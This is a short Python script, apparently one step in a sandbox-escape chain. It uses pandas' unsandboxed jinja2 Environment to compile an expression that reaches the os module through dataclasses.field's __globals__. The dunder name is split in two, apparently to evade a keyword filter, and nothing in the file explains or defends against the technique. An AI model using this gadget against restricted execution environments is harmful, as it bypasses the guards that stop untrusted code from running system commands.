# layer: kernel
# proves: an environment of jinja2 compiles any expression
# oracle: drop
# then: reach
# needs: pandas, jinja2

import pandas as pd
env = pd.DataFrame({'a':[1]}).style.env                 # an ordinary, unsandboxed jinja2 Environment
import dataclasses
text = "f.__glo" + "bals__['sys'].modules['os']"
print(env.compile_expression(text)(f=dataclasses.field))
